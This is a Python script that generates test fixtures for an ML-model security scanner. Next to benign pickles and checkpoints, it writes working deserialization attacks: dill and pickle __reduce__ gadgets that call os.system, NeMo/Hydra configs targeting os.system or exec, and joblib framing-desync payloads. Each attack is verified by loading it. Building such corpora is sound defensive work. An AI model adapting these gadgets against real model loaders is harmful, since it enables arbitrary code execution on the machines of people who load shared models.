"""Fixtures for tests/test_secreal_*.py: dill pickles of plain data and Lightning checkpoints with
OmegaConf hyper-parameters (benign); dill helpers, operator.getitem and OmegaConf turned against the
loader (attacks), proven when made (a marker file, a file read, a print).

    benchmarks/work/fixturegen/bin/python tests/data/security/secreal/make.py

(the venv of scripts/make_security_fixtures.py, with dill, lightning, omegaconf, mlflow-skinny). Writes benign/,
attacks/ and VERSIONS.txt beside this file; tiny."""

from __future__ import annotations

import dataclasses
import importlib.metadata
import os
import pickle
import sys
import tempfile
from pathlib import Path
from typing import Any, Dict, List, Optional, Tuple, Union

import dill
import numpy as np
import pandas as pd
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

HERE = Path(__file__).resolve().parent
MARK = Path(tempfile.gettempdir()) / "aitrail-secreal-marker"
PAYLOAD = f"touch {MARK}"


def benign() -> dict[str, object]:
    rng = np.random.default_rng(0)
    x = rng.random((20, 3))
    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, (x[:, 0] > 0.5).astype(int))
    return {
        "dill_sklearn_pipeline.pkl": pipe,  # numpy arrays through dill._dill._create_array
        "dill_pandas_frame.pkl": pd.DataFrame({"a": [1, 2], "b": ["x", "y"]}),  # slices via _load_type
        "dill_builtin_types.pkl": {"t": int, "s": slice, "n": type(None), "b": bytearray},
    }


class CreateArray:  # dill's array helper handed os.system instead of numpy's _reconstruct
    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (dill._dill._create_array, (os.system, (PAYLOAD,), None))


class LoadTypeCall:  # _load_type("FunctionType") is types.FunctionType: calling it builds a function
    def __reduce__(self):  # type: ignore[no-untyped-def]
        code = compile(f"__import__('os').system({PAYLOAD!r})", "<x>", "exec")
        return (dill._dill._load_type("FunctionType"), (code, {}))


def attacks() -> dict[str, bytes]:
    fn = dill.loads(dill.dumps(LoadTypeCall()))  # the function is built on load; calling it runs it
    assert callable(fn)
    return {
        "dill_create_array_os_system.pkl": dill.dumps(CreateArray()),
        "dill_load_type_function.pkl": dill.dumps(LoadTypeCall()),
        "dill_lambda_by_value.pkl": dill.dumps(lambda: os.system(PAYLOAD)),  # code pickled by value
        "getitem_result_called.pkl": pickle.dumps(CallItem(), protocol=4),
        "omegaconf_load_file.pkl": pickle.dumps(OmegaLoad(), protocol=4),
        "getattr_method_called.pkl": pickle.dumps(AttrCall(), protocol=4),
        **joblib_desyncs(),
    }


class GetItemResult:  # operator.getitem([print], 0) -> print, then called: the item is an indirect call
    def __call__(self, *a):  # type: ignore[no-untyped-def]
        return None

    def __reduce__(self):  # type: ignore[no-untyped-def]
        import operator

        return (operator.getitem, ([print], 0))


class CallItem:
    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (GetItemResult(), ("called through getitem",))


class OmegaLoad:  # OmegaConf.load(path) reads a file the pickle names
    def __reduce__(self):  # type: ignore[no-untyped-def]
        from omegaconf import OmegaConf

        return (OmegaConf.load, (str(MARK) + ".yaml",))


@dataclasses.dataclass
class Optim:
    lr: float = 0.1
    betas: Tuple[float, float] = (0.9, 0.99)


@dataclasses.dataclass
class TrainConfig:  # a Hydra-style structured config: typed fields pickle as typing forms
    name: str = "tiny"
    layers: List[int] = dataclasses.field(default_factory=lambda: [1, 2])
    extra: Dict[str, Any] = dataclasses.field(default_factory=dict)
    maybe: Optional[str] = None
    either: Union[int, float] = 1
    optim: Optim = dataclasses.field(default_factory=Optim)


def lightning_checkpoints() -> None:
    """What Lightning writes for a module whose hyper-parameters are OmegaConf configs (NeMo, Hydra)."""
    import lightning as L
    import torch
    from omegaconf import OmegaConf

    class Tiny(L.LightningModule):
        def __init__(self, cfg: Any) -> None:
            super().__init__()
            self.save_hyperparameters()
            self.layer = torch.nn.Linear(2, 1)

        def training_step(self, batch: Any, i: int) -> Any:
            return self.layer(batch[0]).sum()

        def configure_optimizers(self) -> Any:
            return torch.optim.SGD(self.parameters(), 0.1)

    configs = {
        "lightning_omegaconf_hparams.ckpt": OmegaConf.create({"model": {"dim": 4, "sub": [1, {"x": "${model.dim}"}]}}),
        "lightning_structured_config_hparams.ckpt": OmegaConf.structured(TrainConfig),
    }
    torch.manual_seed(0)
    for name, cfg in configs.items():
        with tempfile.TemporaryDirectory() as tmp:
            trainer = L.Trainer(max_epochs=1, logger=False, enable_checkpointing=False, enable_progress_bar=False,
                                enable_model_summary=False, default_root_dir=tmp)
            data = torch.utils.data.DataLoader(torch.utils.data.TensorDataset(torch.randn(4, 2)), batch_size=2)
            trainer.fit(Tiny(cfg), data)
            trainer.save_checkpoint(HERE / "benign" / name)


MODEL_CODE = """import mlflow
from mlflow.pyfunc import PythonModel


class Echo(PythonModel):
    def predict(self, context, model_input, params=None):
        return model_input


mlflow.models.set_model(Echo())
"""
LOADER = """def _load_pyfunc(path):
    class Echo:
        def predict(self, model_input):
            return model_input

    return Echo()
"""


def mlflow_models() -> None:
    """MLflow folders whose loading runs the model's own Python code (written by mlflow itself)."""
    import shutil

    import mlflow.pyfunc

    out = HERE / "mlflow"
    shutil.rmtree(out, ignore_errors=True)
    out.mkdir()
    with tempfile.TemporaryDirectory() as tmp:
        src = Path(tmp)
        (src / "model_code.py").write_text(MODEL_CODE)
        (src / "mypkg").mkdir()
        (src / "mypkg" / "loader.py").write_text(LOADER)
        cwd = os.getcwd()
        os.chdir(src)
        try:
            mlflow.pyfunc.save_model(str(out / "from_code"), python_model="model_code.py")
            mlflow.pyfunc.save_model(str(out / "custom_loader"), loader_module="loader", code_paths=["mypkg/loader.py"])
        finally:
            os.chdir(cwd)


def attribute_pickles() -> None:
    """Bound methods of values the pickle builds (getattr(value, "findall")), as real libraries pickle them."""
    import re

    import spacy
    from sklearn.feature_extraction.text import CountVectorizer

    nlp = spacy.blank("en")  # its tokenizer pickles re.compile(...).search/finditer as getattr calls
    nlp.add_pipe("sentencizer")
    (HERE / "benign" / "spacy_blank_en.pkl").write_bytes(pickle.dumps(nlp))
    cv = CountVectorizer(tokenizer=re.compile(r"\w+").findall, token_pattern=None).fit(["a b", "c d"])
    (HERE / "benign" / "countvectorizer_regex_tokenizer.pkl").write_bytes(pickle.dumps(cv))


class AttrCall:  # getattr(PurePosixPath("/tmp/x"), "joinpath")("pwned"): a looked-up method, then called
    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (Attr(), ("pwned",))


class Attr:
    def __call__(self, *a):  # type: ignore[no-untyped-def]
        return None

    def __reduce__(self):  # type: ignore[no-untyped-def]
        from pathlib import PurePosixPath

        return (getattr, (PurePosixPath(tempfile.gettempdir()), "joinpath"))


NEMO_CONFIG = {  # the shape of NeMo's Conformer-CTC config (examples/asr/conf/conformer/conformer_ctc_bpe.yaml)
    "target": "nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE",
    "sample_rate": 16000,
    "tokenizer": {"dir": "tokenizer", "type": "bpe"},
    "train_ds": {"manifest_filepath": "train.json", "batch_size": 16, "shuffle": True},
    "preprocessor": {"_target_": "nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor",
                     "sample_rate": 16000, "normalize": "per_feature", "window_size": 0.025, "features": 80},
    "spec_augment": {"_target_": "nemo.collections.asr.modules.SpectrogramAugmentation", "freq_masks": 2},
    "encoder": {"_target_": "nemo.collections.asr.modules.ConformerEncoder", "feat_in": 80, "n_layers": 2,
                "d_model": 64, "subsampling": "striding"},
    "decoder": {"_target_": "nemo.collections.asr.modules.ConvASRDecoder", "feat_in": 64, "num_classes": -1},
    "optim": {"name": "adamw", "lr": 2.0, "betas": [0.9, 0.98], "sched": {"name": "NoamAnnealing", "warmup_steps": 10}},
    "loss": {"_target_": "torch.nn.CTCLoss", "zero_infinity": True},
}


def nemo_configs() -> None:
    """NeMo model configs as OmegaConf writes them: a benign one, and targets a loader must not call."""
    import copy

    from omegaconf import OmegaConf

    out = HERE / "nemo"
    out.mkdir(exist_ok=True)
    OmegaConf.save(OmegaConf.create(NEMO_CONFIG), out / "model_config.yaml")
    evil = copy.deepcopy(NEMO_CONFIG)
    evil["preprocessor"] = {"_target_": "os.system", "_args_": [PAYLOAD]}  # CVE-2025-23304's shape
    OmegaConf.save(OmegaConf.create(evil), out / "target_os_system.yaml")
    # hydra-core >= 1.3.3 blocklists os.system and kin; a file write is not blocked
    evil = copy.deepcopy(NEMO_CONFIG)
    evil["decoder"] = {"_target_": "shutil.copyfile", "_args_": [str(HERE / "VERSIONS.txt"), str(MARK)]}
    OmegaConf.save(OmegaConf.create(evil), out / "target_file_write.yaml")
    evil = copy.deepcopy(NEMO_CONFIG)
    evil["target"] = "builtins.exec"
    OmegaConf.save(OmegaConf.create(evil), out / "top_target_exec.yaml")
    # proof: Hydra's instantiate (what NeMo's restore_from uses) runs a nested target
    from hydra.utils import instantiate

    MARK.unlink(missing_ok=True)
    instantiate(OmegaConf.load(out / "target_file_write.yaml").decoder)
    assert MARK.exists(), "hydra did not run the target"
    MARK.unlink()


def _tar(members: list[tuple[str, bytes]], gz: bool = False) -> bytes:
    import gzip
    import io
    import tarfile

    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 0  # same bytes on every run
            t.addfile(info, io.BytesIO(data))
    return gzip.compress(b.getvalue(), mtime=0) if gz else b.getvalue()


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    import io
    import zipfile

    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data)
    return b.getvalue()


def containers() -> list[tuple[str, int, str]]:
    """The committed fixtures in the containers real loaders open: (file, malicious, technique)."""
    import gzip

    sec = HERE.parent
    evil_pt = (sec / "attacks" / "t01_torch_collect_env_run.pt").read_bytes()
    evil_npy = (sec / "attacks" / "n01_npy_structured_object_field.npy").read_bytes()
    evil_joblib = (sec / "attacks" / "c09_joblib_object_array_record.joblib").read_bytes()
    ok_pt = (sec / "benign" / "torch" / "whole_mlp_module.pt").read_bytes()
    config = (HERE / "nemo" / "model_config.yaml").read_bytes()
    evil_config = (HERE / "nemo" / "target_os_system.yaml").read_bytes()
    found = sorted((sec / "benign" / "joblib").glob("pipeline_*_3.joblib"))
    joblibs = [(f"models/{p.name}", p.read_bytes()) for p in found]
    made = {
        "evil_weights.nemo": (_tar([("./model_config.yaml", config), ("./model_weights.ckpt", evil_pt)]),
                              1, ".nemo whose torch.save checkpoint runs collect_env.run"),
        "evil_config.nemo": (_tar([("./model_config.yaml", evil_config), ("./model_weights.ckpt", ok_pt)]), 1,
                             ".nemo whose model_config.yaml targets os.system (CVE-2025-23304)"),
        "evil_weights.pt.gz": (gzip.compress(evil_pt, mtime=0), 1, "gzipped torch checkpoint (torch.load(gzip))"),
        "evil_npy_in_tar.tar.gz": (_tar([("emb.npy", evil_npy)], gz=True), 1, "object .npy inside a tar.gz"),
        "evil_joblib_in_zip.zip": (_zip([("m/model.joblib", evil_joblib)]), 1, "joblib object-array attack in a zip"),
        "benign.nemo": (_tar([("./model_config.yaml", config), ("./notes.txt", b"c__main__\nFoo\n"),
                              ("./model_weights.ckpt", ok_pt)]), 0, ".nemo with NeMo targets, a text note, a module"),
        "benign_weights.pt.gz": (gzip.compress(ok_pt, mtime=0), 0, "gzipped whole torch module"),
        "benign_joblibs.zip": (_zip(joblibs), 0, "joblib.dump files, every compressor, in a zip"),
    }
    (HERE / "containers").mkdir(exist_ok=True)
    for name, (data, _, _) in made.items():
        (HERE / "containers" / name).write_bytes(data)
    return [(f"containers/{n}", m, t) for n, (_, m, t) in made.items()]


def manifest(extra: list[tuple[str, int, str]]) -> None:
    """manifest.csv as the other corpora have it (benchmarks/security_corpus.py reads it)."""
    import csv

    rows = [(f"benign/{p.name}", 0, "plain data or configs a real library pickled")
            for p in sorted((HERE / "benign").iterdir())]
    rows += [(f"attacks/{p.name}", 1, "a helper or gadget turned against the loader")
             for p in sorted((HERE / "attacks").iterdir())]
    with open(HERE / "manifest.csv", "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["file", "kind", "malicious", "technique", "source"])
        for name, mal, technique in rows + extra:
            w.writerow([name, Path(name).suffix.lstrip("."), mal, technique, "tests/data/security/secreal/make.py"])


def joblib_desyncs() -> dict[str, bytes]:
    """joblib files where aitrail's reading of the array framing and joblib's parted (review R21, R21b),
    made from real joblib.dump output; each proven with joblib.load."""
    import io
    import struct

    import joblib

    out = {}
    b = io.BytesIO()
    joblib.dump(np.array([1.0]), b)
    d = b.getvalue()
    # R21: the dtype's BUILD state sets the hasobject flag (63): joblib pickle.loads what follows the wrapper.
    # The payload's first byte ('c' = 99) is what a raw reading takes as the pad length: 1 + 99 + 8 bytes.
    assert d.count(b"K\x00t\x94b") == 1 and d.endswith(b"ub\x03\xff\xff\xff" + struct.pack("<d", 1.0) + b".")
    payload = b"cposix\nsystem\n(S'" + PAYLOAD.encode() + b" #"
    payload += b"x" * (108 - len(payload) - 5) + b"'\ntR."
    assert len(payload) == 108 and payload[0] == 99
    out["joblib_dtype_hasobject_flag.joblib"] = d.replace(b"K\x00t\x94b", b"K?t\x94b")[:-13] + payload + b"."
    # R21b: the shape pickled as a list [100]: joblib reads 100 elements, a reading that takes 1 resumes inside
    # the data, where a BINBYTES swallows the rest of it and the payload joblib runs next
    b = io.BytesIO()
    joblib.dump(np.zeros(100), b)
    d = b.getvalue()
    assert d.count(b"K\x64\x85") == 1
    (frame,) = struct.unpack_from("<Q", d, 3)
    d = d[:3] + struct.pack("<Q", frame + 1) + d[11:]
    d = d.replace(b"K\x64\x85", b"]K\x64a")
    head, data_end = d[: -(4 + 800 + 1)], d[-1:]
    run = b"cposix\nsystem\n(S'" + PAYLOAD.encode() + b"'\ntR0"
    data = bytes(8) + b"B" + struct.pack("<I", 787 + len(run)) + bytes(787)
    out["joblib_list_shape.joblib"] = head + b"\x03\xff\xff\xff" + data + run + data_end
    for name, data in out.items():
        MARK.unlink(missing_ok=True)
        try:
            joblib.load(io.BytesIO(data))
        except Exception:  # noqa: BLE001 - the payload ran before joblib failed on what it got back
            pass
        assert MARK.exists(), f"{name}: joblib did not run the payload"
        MARK.unlink()
    return out


def dcp_metadata() -> None:
    """torch.distributed.checkpoint's .metadata (what FSDP / sharded checkpoints keep beside their shards):
    a pickle of that module's dataclasses, written by dcp.save in one process."""
    import torch
    import torch.distributed.checkpoint as dcp

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    opt = torch.optim.AdamW(model.parameters())
    model(torch.randn(2, 4)).sum().backward()
    opt.step()
    with tempfile.TemporaryDirectory() as tmp:
        dcp.save({"model": model.state_dict(), "optim": opt.state_dict(), "step": 3}, checkpoint_id=tmp, no_dist=True)
        (HERE / "benign" / "dcp_checkpoint.metadata").write_bytes((Path(tmp) / ".metadata").read_bytes())


def main() -> None:
    for name, obj in benign().items():
        (HERE / "benign").mkdir(exist_ok=True)
        (HERE / "benign" / name).write_bytes(dill.dumps(obj))
    for name, data in attacks().items():
        (HERE / "attacks").mkdir(exist_ok=True)
        (HERE / "attacks" / name).write_bytes(data)
    # proof: loading the first one runs its payload (dill.loads, then the array's __setstate__ fails)
    MARK.unlink(missing_ok=True)
    try:
        dill.loads((HERE / "attacks" / "dill_create_array_os_system.pkl").read_bytes())
    except Exception:  # noqa: BLE001 - the payload ran before the helper failed on its result
        pass
    assert MARK.exists(), "payload did not run"
    MARK.unlink()
    Path(str(MARK) + ".yaml").write_text("secret: 1\n")
    assert pickle.loads((HERE / "attacks" / "omegaconf_load_file.pkl").read_bytes()) == {"secret": 1}  # read it
    Path(str(MARK) + ".yaml").unlink()
    lightning_checkpoints()
    mlflow_models()
    attribute_pickles()
    (HERE / "VERSIONS.txt").touch()
    nemo_configs()
    dcp_metadata()
    manifest(containers())
    assert str(pickle.loads((HERE / "attacks" / "getattr_method_called.pkl").read_bytes())).endswith("pwned")
    libs = ["dill", "joblib", "numpy", "pandas", "scikit-learn", "torch", "lightning", "omegaconf", "mlflow-skinny",
            "spacy", "hydra-core"]
    vers = [f"python {sys.version.split()[0]}"] + [f"{x} {importlib.metadata.version(x)}" for x in libs]
    (HERE / "VERSIONS.txt").write_text("\n".join(vers) + "\n")


if __name__ == "__main__":
    main()
